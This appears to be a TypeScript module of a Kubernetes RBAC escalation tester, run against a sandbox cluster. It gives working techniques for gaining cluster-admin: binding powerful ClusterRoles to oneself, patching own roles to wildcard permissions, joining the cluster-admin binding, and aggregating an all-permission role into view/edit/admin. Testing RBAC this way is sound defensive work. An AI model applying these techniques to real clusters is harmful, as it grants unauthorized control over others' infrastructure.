import { builtInRoles, effectiveRules } from '../../../../rbac';
import { REAL_KUBERNETES } from '../../../../sandbox/api-server/real';
import type { Attempt, Gain, OwnRole } from '../attacker';
import { isDone, newName } from '../creating';
import { until } from '../playing-field';

const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const EVERYTHING = { verbs: ['*'], apiGroups: ['*'], resources: ['*'] };
const BUILT_IN = builtInRoles(REAL_KUBERNETES);

/** Binds each ClusterRole that can be bound, the most powerful first. */
export async function binds(attempt: Attempt, place: string | null): Promise<readonly Gain[]> {
  const { field, me, send } = attempt;
  const bindings = place === null ? `${RBAC}/clusterrolebindings` : `${RBAC}/namespaces/${place}/rolebindings`;
  const names = ['cluster-admin', ...(await attempt.names(place ?? 'default'))];
  for (const role of names) {
    const test = firstRule(role);
    if (test === undefined) continue;
    const namespace = place === null ? {} : { namespace: place };
    const isInForce = () => field.isAllowed(me.credentials, { ...test, ...namespace });
    if (await isInForce()) continue;
    const bound = await send('POST', place === null ? `${RBAC}/clusterrolebindings` : bindings, {
      metadata: { name: newName() },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: me.name }],
    });
    if (!isDone(bound)) continue;
    await until(`${role} of ${me.name} to be in force`, isInForce);
    const where = place === null ? '' : ` in ${place}`;
    return [{ does: `binds a ClusterRole to oneself${where}`, to: 'more' }];
  }
  return [];
}

/** Gives every permission to a role of the attacker, or to one that everybody has. */
export async function changesRoles(attempt: Attempt): Promise<readonly Gain[]> {
  const everybodys: OwnRole = { name: 'system:basic-user', kind: 'ClusterRole', namespace: null };
  for (const role of [...attempt.me.roles, everybodys]) {
    const gain = await changesRole(attempt, role);
    if (gain !== undefined) return [gain];
  }
  return [];
}

async function changesRole(attempt: Attempt, { name, kind, namespace }: OwnRole): Promise<Gain | undefined> {
  const { field, send } = attempt;
  const place = kind === 'ClusterRole' ? RBAC : `${RBAC}/namespaces/${namespace}`;
  const path = `${place}/${kind.toLowerCase()}s/${name}`;
  const rules = [EVERYTHING];
  const change = async () =>
    isDone(await send('PATCH', path, { rules })) || isDone(await send('PUT', path, { metadata: { name }, rules }));
  const does =
    kind === 'ClusterRole'
      ? 'adds every permission to a ClusterRole that one has'
      : `adds every permission to a Role that one has in ${namespace}`;
  const before = await field.admin('GET', path);
  return everythingBy(attempt, namespace, does, change, () => field.must('PATCH', path, { rules: before.body.rules }));
}

/** Adds the attacker to the binding of cluster-admin. */
export async function joinsClusterAdmins(attempt: Attempt): Promise<readonly Gain[]> {
  const { field, me, send } = attempt;
  const path = `${RBAC}/clusterrolebindings/cluster-admin`;
  const { roleRef, subjects: before } = await field.must('GET', path);
  const subjects = [...before, { apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: me.name }];
  const join = async () =>
    isDone(await send('PATCH', path, { subjects })) ||
    isDone(await send('PUT', path, { metadata: { name: 'cluster-admin' }, roleRef, subjects }));
  const does = 'adds oneself to the ClusterRoleBinding cluster-admin, which every cluster has';
  const gain = await everythingBy(attempt, null, does, join, () => field.must('PATCH', path, { subjects: before }));
  return gain === undefined ? [] : [gain];
}

/** Adds to view, edit and admin. Only who has one of them gains by it, and so do all others who have it. */
export async function aggregates(attempt: Attempt): Promise<readonly Gain[]> {
  const { field, me, send } = attempt;
  const own = me.roles.filter(({ name }) => ['view', 'edit', 'admin'].includes(name));
  const [first] = own;
  if (first === undefined) return [];
  const name = newName();
  const labels = Object.fromEntries(
    own.map(({ name }) => [`rbac.authorization.k8s.io/aggregate-to-${name}`, 'true'] as const),
  );
  const create = async () =>
    isDone(await send('POST', `${RBAC}/clusterroles`, { metadata: { name, labels }, rules: [EVERYTHING] }));
  const does = 'creates a ClusterRole with every permission that is aggregated into view, edit and admin';
  const gain = await everythingBy(attempt, first.namespace, does, create, () =>
    field.must('DELETE', `${RBAC}/clusterroles/${name}`),
  );
  return gain === undefined ? [] : [gain];
}

/**
 * Changes a role or its binding, which gives the attacker everything where the role is bound. On the whole cluster the change is taken
 * back when it is proved, because others have the role too.
 */
async function everythingBy(
  { field, me }: Attempt,
  namespace: string | null,
  does: string,
  change: () => Promise<boolean>,
  takeBack: () => Promise<unknown>,
): Promise<Gain | undefined> {
  const everything = { verb: '*', group: '*', resource: '*', ...(namespace !== null && { namespace }) };
  const isInForce = () => field.isAllowed(me.credentials, everything);
  if ((await isInForce()) || !(await change())) return undefined;
  await until(`everything that ${me.name} gave itself`, isInForce);
  if (namespace !== null) return { does, to: 'more' };
  await takeBack();
  await until(`${me.name} to be as before`, async () => !(await isInForce()));
  return { does, to: 'cluster-admin' };
}

/** A permission of a role that tells whether it is in force. */
function firstRule(role: string): { verb: string; group: string; resource: string } | undefined {
  const [rule] = effectiveRules(BUILT_IN.clusterRoles, role).filter(({ resources = [] }) => resources.length > 0);
  return rule && { verb: rule.verbs[0] ?? '', group: rule.apiGroups?.[0] ?? '', resource: rule.resources?.[0] ?? '' };
}
